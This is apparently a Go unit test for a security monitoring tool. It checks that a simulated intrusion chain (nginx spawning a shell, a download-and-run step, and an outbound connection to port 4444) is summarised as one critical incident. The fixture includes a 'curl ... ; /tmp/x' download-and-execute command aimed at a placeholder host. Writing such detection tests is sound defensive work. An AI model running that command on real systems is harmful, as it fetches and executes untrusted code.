package story_test

import (
	"net/netip"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/castellan-security/castellan/internal/detect/story"
	"github.com/castellan-security/castellan/internal/event"
	"github.com/castellan-security/castellan/internal/finding"
	"github.com/castellan-security/castellan/internal/threat"
)

// dropper is nginx that starts a shell, which downloads and runs something.
func dropper() []*threat.Threat {
	nginx := threat.Ancestor{Key: key(1), Name: "nginx", Executable: "/usr/sbin/nginx"}
	sh := threat.Ancestor{Key: key(10), Name: "sh", Executable: "/bin/sh", Args: []string{"sh", "-c", "curl -o /tmp/x http://198.51.100.7/x; /tmp/x"}}
	one := func(rule, title string, sev finding.Severity, tactic threat.Tactic, technique, exe string, pid uint32, when time.Duration, says string, args []string, above ...threat.Ancestor) *threat.Threat {
		t := act{rule: rule, root: 10, container: 1, at: when, severity: sev, tactic: tactic}.threat()
		t.Title, t.Summary, t.Args, t.Ancestors, t.Techniques = title, says, args, above, []string{technique}
		t.Process = event.Process{Key: key(pid), Parent: above[0].Key, Name: exe[len(exe)-1:], Executable: exe}
		return t
	}
	shell := one("shell-of-server", "A web server started a shell", finding.High, threat.InitialAccess, "T1190", "/bin/sh", 10, 0,
		"sh -c curl -o /tmp/x http://198.51.100.7/x; /tmp/x was run below nginx", sh.Args, nginx)
	load := one("download-and-run", "A file that was downloaded is executed", finding.High, threat.Execution, "T1105", "/tmp/x", 12, 2*time.Second,
		"/tmp/x runs /tmp/x, which was downloaded", []string{"/tmp/x"}, sh, nginx)
	load.Files = []string{"/tmp/x"}
	call := one("shell-reverse", "A shell talks to a stranger", finding.High, threat.CommandAndControl, "T1071", "/tmp/x", 12, 3*time.Second,
		"/tmp/x connected to 203.0.113.9:4444", []string{"/tmp/x"}, sh, nginx)
	call.Peers = []threat.Peer{{Address: netip.MustParseAddrPort("203.0.113.9:4444"), Peer: event.Peer{Kind: event.PeerPublic}}}
	call.Reaction = event.ReactionKilled
	return []*threat.Threat{shell, load, call}
}

func TestTheStoryAsPeopleReadIt(t *testing.T) {
	b := story.NewBook()
	var s *story.Story
	for _, v := range dropper() {
		s = b.Take(v, now)
	}
	i := s.Incident(now)
	if want := "A web server started a shell, in shop/web/nginx, and 2 more things"; i.Title != want {
		t.Errorf("title %q, want %q", i.Title, want)
	}
	want := "nginx in shop/web/nginx started a shell (sh -c curl -o /tmp/x http://198.51.100.7/x; /tmp/x); x runs /tmp/x, which was downloaded; " +
		"it connected to 203.0.113.9:4444; the kernel killed it."
	if i.Story != want {
		t.Errorf("story\n%q, want\n%q", i.Story, want)
	}
	if i.Severity != finding.Critical {
		t.Errorf("severity %s of a whole chain", i.Severity)
	}
	var names []string
	for _, n := range i.Processes {
		names = append(names, n.Key.String()+" "+n.Executable)
	}
	if d := cmp.Diff([]string{"1-1000 /usr/sbin/nginx", "10-10000 /bin/sh", "12-12000 /tmp/x"}, names); d != "" {
		t.Errorf("processes (-want +got):\n%s", d)
	}
	if d := cmp.Diff([]string{"download-and-run", "shell-reverse"}, i.Processes[2].Rules); d != "" {
		t.Errorf("rules of /tmp/x (-want +got):\n%s", d)
	}
}
